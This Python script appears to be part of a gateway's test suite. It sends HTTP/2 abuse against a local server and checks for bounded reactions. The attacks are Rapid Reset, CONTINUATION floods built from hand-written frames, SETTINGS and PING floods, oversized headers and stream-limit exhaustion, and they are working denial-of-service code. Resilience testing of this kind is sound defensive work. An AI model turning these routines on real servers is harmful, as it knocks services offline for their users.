#!/usr/bin/env python3
"""HTTP/2 abuse against a gateway on 127.0.0.1:PORT (h2c, prior knowledge), one attack per run.

usage: h2_abuse.py PORT ATTACK
Prints one JSON object with what the attack did and how the server reacted; exits 1 (with the
reason on stderr) when the server's reaction is not a bounded one. tests/abuse.rs runs it while
normal clients keep sending requests, and checks their answers and the gateway's memory.

Requests are built with the `h2` package (python-hyper); where a compliant client library
refuses to misbehave (CONTINUATION floods, more streams than the server allows), frames are
written by hand and header blocks encoded with `hpack`.
"""
import json
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.errors
import hpack

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REQUEST = [(":method", "GET"), (":scheme", "http"), (":authority", "h"), (":path", "/")]


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Peer:
    """A raw connection: writes bytes, reads and decodes the server's frames."""

    def __init__(self, port):
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.block = None  # (stream, bytes) of a header block in progress
        self.closed = False
        self.goaway = None  # error code
        self.resets = {}  # stream -> error code
        self.statuses = {}  # stream -> :status
        self.settings = {}
        self.acks = 0
        self.pongs = 0

    def send(self, data, timeout=5.0):
        """Sends all of `data`; False when the server stopped reading for `timeout` or closed."""
        self.sock.settimeout(timeout)
        try:
            self.sock.sendall(data)
            return True
        except (socket.timeout, BrokenPipeError, ConnectionResetError):
            return False

    def read(self, wait=0.2):
        """Reads what arrives within `wait` seconds of quiet (or until the server closes)."""
        self.sock.settimeout(wait)
        while not self.closed:
            try:
                chunk = self.sock.recv(1 << 16)
            except socket.timeout:
                break
            except ConnectionResetError:
                chunk = b""
            if not chunk:
                self.closed = True
                break
            self.buf += chunk
            self._frames()

    def _frames(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                return
            kind, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            if kind == SETTINGS and flags & ACK:
                self.acks += 1
            elif kind == SETTINGS:
                for i in range(0, len(payload), 6):
                    ident, value = struct.unpack(">HI", payload[i : i + 6])
                    self.settings[ident] = value
            elif kind == PING and flags & ACK:
                self.pongs += 1
            elif kind == GOAWAY:
                self.goaway = struct.unpack(">I", payload[4:8])[0]
            elif kind == RST_STREAM:
                self.resets[stream] = struct.unpack(">I", payload[:4])[0]
            elif kind in (HEADERS, CONTINUATION):
                if kind == HEADERS:
                    pad = payload[0] if flags & 0x8 else 0
                    start = (1 if flags & 0x8 else 0) + (5 if flags & 0x20 else 0)
                    payload = payload[start : len(payload) - pad]
                    self.block = (stream, b"")
                self.block = (self.block[0], self.block[1] + payload)
                if flags & END_HEADERS:
                    sid, block = self.block
                    headers = dict(self.decoder.decode(block))
                    if ":status" in headers:
                        self.statuses.setdefault(sid, headers[":status"])
                    self.block = None


def client(port):
    """An `h2` client connection with the preface and its SETTINGS sent."""
    peer = Peer(port)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    peer.send(conn.data_to_send())
    peer.read()
    return peer, conn


def served(port):
    """Whether a fresh connection still gets a 200."""
    peer, conn = client(port)
    conn.send_headers(1, REQUEST, end_stream=True)
    peer.send(conn.data_to_send())
    deadline = time.time() + 10
    while 1 not in peer.statuses and not peer.closed and time.time() < deadline:
        peer.read(0.5)
    return peer.statuses.get(1) == "200"


def rapid_reset(port):
    """CVE-2023-44487: open a stream and cancel it at once, thousands of times."""
    peer, conn = client(port)
    sent = 0
    for batch in range(100):
        for _ in range(100):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, REQUEST, end_stream=True)
            conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
            sent += 1
        if not peer.send(conn.data_to_send()):
            break
        peer.read(0.01)
        if peer.closed or peer.goaway is not None:
            break
    peer.read(1.0)
    return {"streams": sent, "goaway": peer.goaway, "closed": peer.closed}


def continuation_flood(port, size):
    """CVE-2024-27316: a header block that never ends, in CONTINUATION frames of `size`
    bytes (0: empty frames), up to 64 MiB (or a million frames)."""
    peer, conn = client(port)
    encoder = hpack.Encoder()
    first = encoder.encode(REQUEST)
    peer.send(frame(HEADERS, END_STREAM, 1, first))
    sent, frames, stalled = 0, 0, False
    n = 0
    while sent < 64 << 20 and frames < 1_000_000:
        batch = b""
        for _ in range(64):
            if size:
                n += 1
                # A literal header, never indexed: each one adds to the header list.
                name = b"x-flood-%d" % n
                value = b"a" * (size - len(name) - 8)
                piece = b"\x10" + hpack_len(len(name)) + name + hpack_len(len(value)) + value
            else:
                piece = b""
            batch += frame(CONTINUATION, 0, 1, piece)
            frames += 1
        if not peer.send(batch, timeout=3.0):
            stalled = not peer.closed
            break
        sent += len(batch)
        peer.read(0.0001)
        if peer.closed or peer.goaway is not None:
            break
    peer.read(1.0)
    return {"bytes": sent, "frames": frames, "goaway": peer.goaway, "closed": peer.closed, "stalled": stalled}


def hpack_len(n):
    """An HPACK string length (7-bit prefix integer, no Huffman)."""
    if n < 127:
        return bytes([n])
    out, n = [127], n - 127
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def flood(port, kind):
    """SETTINGS or PING frames, 100,000 of them, without reading the answers."""
    peer, _ = client(port)
    if kind == SETTINGS:
        one = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535))
    else:
        one = frame(PING, 0, 0, b"12345678")
    sent, stalled = 0, False
    batch = one * 1000
    while sent < 100_000:
        if not peer.send(batch, timeout=3.0):
            stalled = True
            break
        sent += 1000
    # Now read: the answers the server queued are bounded by what it read.
    peer.read(1.0)
    return {
        "frames": sent,
        "stalled": stalled,
        "answers": peer.acks if kind == SETTINGS else peer.pongs,
        "goaway": peer.goaway,
        "closed": peer.closed,
    }


def oversized_headers(port, size):
    """One request with a header of `size` bytes (HEADERS + CONTINUATION, sent by `h2`)."""
    peer, conn = client(port)
    # hpack's pure-Python Huffman coder takes minutes on a megabyte: plain literals.
    encode = conn.encoder.encode
    conn.encoder.encode = lambda headers: encode(headers, huffman=False)
    conn.send_headers(1, REQUEST + [("x-big", "a" * size)], end_stream=True)
    peer.send(conn.data_to_send())
    deadline = time.time() + 10
    while 1 not in peer.statuses and 1 not in peer.resets and not peer.closed and time.time() < deadline:
        peer.read(0.5)
    return {
        "status": peer.statuses.get(1),
        "reset": peer.resets.get(1),
        "goaway": peer.goaway,
        "closed": peer.closed,
    }


def stream_limit(port, extra):
    """Opens the server's SETTINGS_MAX_CONCURRENT_STREAMS plus `extra` streams whose bodies
    never come."""
    peer, conn = client(port)
    limit = peer.settings.get(0x3)
    if limit is None:
        return {"error": "the server announced no SETTINGS_MAX_CONCURRENT_STREAMS"}
    encoder = hpack.Encoder()
    post = [(":method", "POST"), (":scheme", "http"), (":authority", "h"), (":path", "/")]
    out = frame(SETTINGS, ACK, 0)
    for i in range(limit + extra):
        out += frame(HEADERS, END_HEADERS, 1 + 2 * i, encoder.encode(post))
    peer.send(out)
    peer.read(2.0)
    refused = sum(1 for code in peer.resets.values() if code == 0x7)
    return {
        "limit": limit,
        "opened": limit + extra,
        "refused": refused,
        "answered": len(peer.statuses),
        "goaway": peer.goaway,
        "closed": peer.closed,
    }


def main():
    port, attack = int(sys.argv[1]), sys.argv[2]
    started = time.time()
    if attack == "rapid-reset":
        out = rapid_reset(port)
        ok = out["goaway"] is not None or out["closed"] or out["streams"] == 10_000
    elif attack == "continuation-flood":
        out = continuation_flood(port, 16000)
        # Cut once the header list passes the limit: nowhere near the 64 MiB offered.
        ok = (out["goaway"] is not None or out["closed"]) and out["bytes"] < 4 << 20
    elif attack == "empty-continuation-flood":
        out = continuation_flood(port, 0)
        ok = out["goaway"] is not None or out["closed"] or out["stalled"] or out["frames"] >= 1_000_000
    elif attack == "settings-flood":
        out = flood(port, SETTINGS)
        ok = out["stalled"] or out["goaway"] is not None or out["closed"] or out["answers"] > 0
    elif attack == "ping-flood":
        out = flood(port, PING)
        ok = out["stalled"] or out["goaway"] is not None or out["closed"] or out["answers"] > 0
    elif attack == "oversized-headers":
        # The gateway runs with --max-header-bytes 65536.
        out = {
            "under": oversized_headers(port, 32 << 10),
            "over": oversized_headers(port, 80 << 10),
            "far_over": oversized_headers(port, 1 << 20),
        }
        far = out["far_over"]
        ok = (
            out["under"]["status"] == "200"
            and out["over"]["status"] == "431"
            and (far["status"] == "431" or far["reset"] is not None or far["goaway"] is not None)
        )
    elif attack == "stream-limit":
        out = stream_limit(port, 100)
        ok = "error" not in out and out["limit"] == 200 and out["refused"] >= 100 and out["answered"] + out["refused"] <= out["opened"]
    else:
        sys.exit(f"unknown attack {attack}")
    out["served_after"] = served(port)
    out["seconds"] = round(time.time() - started, 2)
    print(json.dumps(out))
    if not ok or not out["served_after"]:
        sys.exit(f"{attack}: unbounded or wrong reaction: {out}")


if __name__ == "__main__":
    main()
